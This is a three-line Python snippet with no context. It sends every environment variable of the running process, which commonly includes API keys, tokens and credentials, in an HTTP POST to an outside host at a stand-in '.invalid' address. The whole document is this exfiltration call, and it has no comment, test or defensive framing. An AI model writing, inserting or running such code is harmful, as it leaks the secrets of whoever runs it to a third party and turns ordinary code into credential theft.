import os
import requests

requests.post("https://in.stranger.invalid", json=dict(os.environ))
